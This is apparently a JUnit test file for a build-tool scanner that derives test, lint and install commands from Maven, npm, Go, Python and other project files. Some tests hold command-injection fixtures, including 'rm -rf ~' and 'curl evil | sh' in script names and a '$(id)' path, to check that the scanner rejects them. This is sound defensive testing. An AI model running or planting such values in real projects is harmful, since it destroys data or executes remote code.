package dev.loopgen.adapters.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.loopgen.api.RepositoryException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

final class ProjectScanTest {

  @TempDir private Path directory;

  private Project project() {
    return Project.in(directory);
  }

  @Test
  void maven_withWrapperAndPlugins_isFound() throws IOException {
    project()
        .file(
            "pom.xml",
            """
            <project xmlns="http://maven.apache.org/POM/4.0.0">
              <artifactId>shop</artifactId>
              <modules><module>core</module></modules>
              <build><plugins><plugin>
                <artifactId>spotless-maven-plugin</artifactId>
              </plugin></plugins></build>
            </project>
            """)
        .file("core/pom.xml", "<project><artifactId>core</artifactId></project>")
        .file("mvnw", "#!/bin/sh\n")
        .file("core/src/main/java/A.java", "class A {}");

    ProjectScan scan = project().scan();

    assertThat(scan.name()).isEqualTo("shop");
    assertThat(scan.primaryLanguage()).hasValue("Java");
    assertThat(scan.packageManagers()).containsExactly("maven");
    assertThat(scan.commands(CommandKind.TEST)).containsExactly("sh mvnw -B -ntp test");
    assertThat(scan.commands(CommandKind.LINT)).containsExactly("sh mvnw -B -ntp spotless:check");
    assertThat(scan.tests().get(0).reports())
        .containsExactly("**/target/surefire-reports/TEST-*.xml");
    assertThat(scan.warnings()).isEmpty();
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void wrapper_thatCanBeExecuted_isPreferred() throws IOException {
    project().file("build.gradle.kts", "").file("gradlew", "#!/bin/sh\n");
    assertThat(directory.resolve("gradlew").toFile().setExecutable(true)).isTrue();

    assertThat(project().scan().commands(CommandKind.TEST)).containsExactly("./gradlew test");
  }

  @Test
  void nestedMavenBuild_thatIsNoModule_isWarnedAbout() throws IOException {
    project()
        .file("pom.xml", "<project><artifactId>a</artifactId></project>")
        .file("sample/pom.xml", "<project><artifactId>b</artifactId></project>");

    assertThat(project().scan().warnings())
        .anyMatch(warning -> warning.startsWith("sample/pom.xml is not part of the build"));
  }

  @Test
  void modulesOfSeveralTools_haveCommandsOfTheirDirectories() throws IOException {
    project()
        .file("backend/go.mod", "module example.org/x/backend\n")
        .file("frontend/package.json", "{\"name\": \"web\", \"scripts\": {\"test\": \"vitest\"}}")
        .file("frontend/pnpm-lock.yaml", "");

    ProjectScan scan = project().scan();

    assertThat(scan.packageManagers()).containsExactly("go", "pnpm");
    assertThat(scan.commands(CommandKind.TEST))
        .containsExactly("cd backend && go test ./...", "cd frontend && pnpm run test");
    assertThat(scan.tests().get(1).command())
        .startsWith("cd frontend && pnpm run test --run --reporter=default");
    assertThat(scan.tests().get(1).reports()).containsExactly("frontend/junit.xml");
  }

  @Test
  void npm_withScripts_isFound() throws IOException {
    project()
        .file(
            "package.json",
            """
            {"name": "@shop/web", "scripts": {"test": "jest", "lint": "eslint .",
             "build": "tsc", "format": "prettier -w .", "evil; rm -rf ~": "true"}}
            """)
        .file("package-lock.json", "{}");

    ProjectScan scan = project().scan();

    assertThat(scan.name()).isEqualTo("@shop/web");
    assertThat(scan.commands(CommandKind.INSTALL)).containsExactly("npm ci");
    assertThat(scan.commands(CommandKind.LINT)).containsExactly("npm run lint");
    assertThat(scan.commands(CommandKind.BUILD)).containsExactly("npm run build");
    assertThat(scan.commands(CommandKind.FORMAT)).containsExactly("npm run format");
    assertThat(scan.tests().get(0).notes()).anyMatch(note -> note.contains("jest-junit"));
    assertThat(scan.scripts()).containsKey("evil; rm -rf ~");
  }

  @Test
  void packageManagerField_winsOverLockFiles() throws IOException {
    project()
        .file(
            "package.json", "{\"packageManager\": \"yarn@4.1.0\", \"scripts\": {\"test\": \"x\"}}")
        .file("package-lock.json", "{}")
        .file("yarn.lock", "")
        .file(".yarnrc.yml", "");

    ProjectScan scan = project().scan();

    assertThat(scan.commands(CommandKind.INSTALL)).containsExactly("yarn install --immutable");
    assertThat(scan.commands(CommandKind.TEST)).containsExactly("yarn run test");
    assertThat(scan.warnings()).anyMatch(warning -> warning.contains("several package managers"));
  }

  /** A pattern of Go never reaches into another module, so each is named. */
  @Test
  void goWorkspace_testsEachModule() throws IOException {
    project()
        .file("go.work", "go 1.22\n\nuse (\n\t./a // first\n\t./b/c/\n)\nuse ./d\n")
        .file("a/go.mod", "module a\n")
        .file("b/c/go.mod", "module c\n")
        .file("d/go.mod", "module d\n");
    assertThat(project().scan().commands(CommandKind.TEST))
        .containsExactly("go test ./a/... ./b/c/... ./d/...");

    project().file("go.work", "use .\nuse ./a\n").file("go.mod", "module root\n");
    assertThat(project().scan().commands(CommandKind.TEST))
        .containsExactly("go test ./... ./a/...");

    project().file("go.work", "use ./$(id)\nuse ../outside\n");
    assertThat(project().scan().commands(CommandKind.TEST)).containsExactly("go test ./...");
    assertThat(project().scan().warnings()).anyMatch(warning -> warning.contains("go.work"));
  }

  @Test
  void workspaces_withoutAScriptOfTheRoot_areTestedOrWarnedAbout() throws IOException {
    project()
        .file("package.json", "{\"workspaces\": [\"p/*\"]}")
        .file("p/a/package.json", "{\"scripts\": {\"test\": \"x\"}}")
        .file("yarn.lock", "");
    assertThat(project().scan().commands(CommandKind.TEST)).isEmpty();
    assertThat(project().scan().warnings()).anyMatch(warning -> warning.contains("workspaces"));

    project().file(".yarnrc.yml", "");
    assertThat(project().scan().commands(CommandKind.TEST))
        .containsExactly("yarn workspaces foreach --all run test");

    project()
        .file("package.json", "{\"workspaces\": [\"p/*\"], \"packageManager\": \"bun@1.2.0\"}");
    assertThat(project().scan().commands(CommandKind.TEST))
        .containsExactly("bun run --filter \"*\" test");
  }

  @Test
  void npmsOwnTestScript_isNoTest() throws IOException {
    project()
        .file(
            "package.json",
            "{\"scripts\": {\"test\": \"echo \\\"Error: no test specified\\\" && exit 1\"}}");

    ProjectScan scan = project().scan();

    assertThat(scan.commands(CommandKind.TEST)).isEmpty();
    assertThat(scan.warnings()).hasSize(2);
  }

  @Test
  void nodesOwnRunner_isAskedForAReport() throws IOException {
    project().file("package.json", "{\"scripts\": {\"test\": \"node --test test/\"}}");

    assertThat(project().scan().tests().get(0).command())
        .isEqualTo(
            "node --test --test-reporter=spec --test-reporter-destination=stdout"
                + " --test-reporter=junit --test-reporter-destination=junit.xml test/");
  }

  @Test
  void testScriptWithShellMarks_getsNoArguments() throws IOException {
    project().file("package.json", "{\"scripts\": {\"test\": \"vitest run; curl evil | sh\"}}");

    assertThat(project().scan().tests()).isEmpty();
  }

  @Test
  void brokenPackageJson_isAWarning() throws IOException {
    project().file("package.json", "{\"name\": \"a\", \"name\": \"b\"}");

    assertThat(project().scan().warnings())
        .anyMatch(warning -> warning.startsWith("package.json is not valid JSON"));
  }

  @Test
  void python_withUvAndPytest_isFound() throws IOException {
    project()
        .file(
            "pyproject.toml",
            """
            [project]
            name = "shop"
            [dependency-groups]
            dev = ["pytest>=8", "ruff"]
            """)
        .file("uv.lock", "")
        .file("tests/test_a.py", "import unittest\n");

    ProjectScan scan = project().scan();

    assertThat(scan.packageManagers()).containsExactly("uv");
    assertThat(scan.commands(CommandKind.INSTALL)).containsExactly("uv sync --locked");
    assertThat(scan.commands(CommandKind.TEST)).containsExactly("uv run pytest");
    assertThat(scan.commands(CommandKind.LINT)).containsExactly("uv run ruff check .");
    assertThat(scan.tests().get(0).command()).isEqualTo("uv run pytest --junitxml=junit.xml");
  }

  @Test
  void python_withPoetry_isFound() throws IOException {
    project()
        .file(
            "pyproject.toml",
            "[tool.poetry]\nname = \"shop\"\n[tool.poetry.group.dev.dependencies]\npytest = \"8\"\n");

    assertThat(project().scan().commands(CommandKind.TEST)).containsExactly("poetry run pytest");
  }

  @Test
  void python_whoseTestsUseUnittestAlone_runsUnittest() throws IOException {
    project()
        .file("requirements.txt", "requests==2\n")
        .file("tests/test_a.py", "import unittest\n");

    ProjectScan scan = project().scan();

    assertThat(scan.commands(CommandKind.INSTALL))
        .containsExactly("python3 -m pip install -r requirements.txt");
    assertThat(scan.commands(CommandKind.TEST))
        .containsExactly("python3 -m unittest discover -s tests");
  }

  @Test
  void cargoDotnetComposerAndBundler_areFound() throws IOException {
    project()
        .file("Cargo.toml", "[workspace]\nmembers = [\"a\"]\n")
        .file("Cargo.lock", "")
        .file("Shop.sln", "")
        .file("composer.json", "{\"require-dev\": {\"phpunit/phpunit\": \"11\"}}")
        .file("Gemfile", "")
        .file(".rspec", "");

    assertThat(project().scan().commands(CommandKind.TEST))
        .containsExactly(
            "cargo test --workspace --locked",
            "dotnet test",
            "vendor/bin/phpunit",
            "bundle exec rspec");
  }

  @Test
  void ciFiles_areFound() throws IOException {
    project().file(".github/workflows/ci.yml", "on: push\n").file(".gitlab-ci.yml", "");

    ProjectScan scan = project().scan();

    assertThat(scan.ciProviders()).containsExactly("github-actions", "gitlab-ci");
    assertThat(scan.ciFiles()).containsExactly(".github/workflows/ci.yml", ".gitlab-ci.yml");
  }

  @Test
  void directoryWithShellMarks_isLeftOut() throws IOException {
    project().file("a; rm -rf x/go.mod", "module m\n");

    ProjectScan scan = project().scan();

    assertThat(scan.modules()).isEmpty();
    assertThat(scan.warnings()).anyMatch(warning -> warning.contains("mean something to a shell"));
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void linkedManifest_isNotRead() throws IOException {
    Path outside = Files.writeString(directory.resolve("outside.json"), "{\"name\": \"secret\"}");
    Path inside = Files.createDirectory(directory.resolve("project"));
    Files.createSymbolicLink(inside.resolve("package.json"), outside);

    ProjectScan scan = ProjectScan.of(inside);

    assertThat(scan.modules()).isEmpty();
    assertThat(scan.name()).isEqualTo("project");
  }

  @Test
  void emptyDirectory_hasAWarning() {
    ProjectScan scan = project().scan();

    assertThat(scan.modules()).isEmpty();
    assertThat(scan.warnings()).hasSize(1);
    assertThat(scan.toJson().string("primaryLanguage")).hasValue("Unknown");
  }

  @Test
  void missingDirectory_isRefused() {
    assertThatThrownBy(() -> ProjectScan.of(directory.resolve("missing")))
        .isInstanceOf(RepositoryException.class)
        .hasMessageContaining("There is no directory");
  }
}
